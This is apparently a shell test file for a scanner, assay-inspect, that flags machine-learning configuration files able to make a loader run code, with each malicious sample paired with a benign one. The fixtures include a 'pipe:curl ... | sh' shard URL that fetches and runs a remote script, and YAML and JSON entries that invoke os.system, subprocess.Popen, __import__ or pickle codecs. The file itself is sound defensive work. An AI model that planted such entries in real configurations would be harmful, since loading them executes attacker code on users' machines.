#!/bin/sh
# assay-inspect on configurations by which a loader imports, unpickles or starts something, each beside
# the honest one that looks like it.
. tests/cli/tap.sh

looked() # NAME: what is in standard input, as a bundle of that one file
{
	rm -rf "$tmp/b"
	mkdir "$tmp/b"
	cat >"$tmp/b/$1"
}
flagged() # TEXT ID
{
	exits 1 "$1" assay-inspect "$tmp/b"
	prints "$2"
}
quiet() # TEXT
{
	exits 0 "$1" assay-inspect "$tmp/b"
	ok "$1: nothing above low" sh -c "! grep -qE '^ *(medium|high|critical)' $out"
}

# --- eval() of a transform's name (PaddleOCR, tools/infer) ---------------------
looked inference.yml <<'END'
PreProcess:
  transform_ops:
  - "__import__('os').system('id')":
      size: 3
END
flagged "code as a key" CONFIG_CODE
looked inference.yml <<'END'
PreProcess:
  transform_ops:
  - DecodeImage: {img_mode: BGR}
  - ResizeImage: {resize_short: 256}
END
quiet "names of transforms as keys"

# --- shards of WebDataset ------------------------------------------------------
looked data.yaml <<'END'
train:
  urls: "pipe:curl -s http://198.51.100.7/x | sh"
END
flagged "a shard that a shell makes" COMMAND_DANGEROUS
looked data.yaml <<'END'
train:
  urls: "pipe:aws s3 cp s3://bucket/shard-{000..012}.tar -"
END
quiet "a shard that is fetched"

# --- Zarr ------------------------------------------------------------------------
zarr() # CODEC
{
	printf '{"zarr_format": 2, "shape": [1], "chunks": [1], "dtype": "|O", "fill_value": 0, "order": "C",
"compressor": {"id": "blosc", "cname": "lz4", "clevel": 5, "shuffle": 1}, "filters": [{"id": "%s"}]}' "$1"
}
zarr pickle | looked .zarray
flagged "chunks that are pickles" CONFIG_TARGET
zarr vlen-utf8 | looked .zarray
quiet "chunks that are text"

# --- MMEngine, AllenNLP, Haystack, Rasa -----------------------------------------
mm() # MODULE
{
	printf '{"model": {"type": "FasterRCNN"}, "custom_imports": {"imports": ["%s"], "allow_failed_imports": false}}' "$1"
}
mm evil.payload | looked config.json
flagged "modules that MMEngine imports" CONFIG_TARGET
mm mmpretrain.models | looked config.json
quiet "its own"
mm mm.x.os | looked config.json
flagged "a module behind one of its own" CONFIG_TARGET
haystack() # CLASS
{
	printf 'components:\n  runner:\n    type: %s\n    init_parameters: {command: id}\nconnections: []\n' "$1"
}
haystack os.system | looked pipeline.yaml
flagged "a function as a component of Haystack" CONFIG_TARGET
haystack haystack.utils.os.system | looked pipeline.yaml
flagged "the same behind a module of its own" CONFIG_TARGET
haystack haystack.components.builders.prompt_builder.PromptBuilder | looked pipeline.yaml
quiet "its own component"
haystack evil_pkg.Runner | looked pipeline.yaml
exits 0 "somebody's component" assay-inspect "$tmp/b"
prints "low *CONFIG_ELSEWHERE"
printf '{"dataset_reader": {"type": "snli"}, "model": {"type": "subprocess.Popen", "args": "id"}}' | looked config.json
flagged "a model of AllenNLP" CONFIG_TARGET
printf '{"dataset_reader": {"type": "snli"}, "model": {"type": "allennlp_models.pair.DecomposableAttention"}}' | looked config.json
quiet "its own model"
printf 'language: en\npipeline:\n- name: os.system\npolicies: []\n' | looked config.yml
flagged "a component of Rasa" CONFIG_TARGET
printf 'language: en\npipeline:\n- name: WhitespaceTokenizer\n- name: rasa.nlu.classifiers.DIETClassifier\npolicies: []\n' | looked config.yml
quiet "its own components"
done_testing
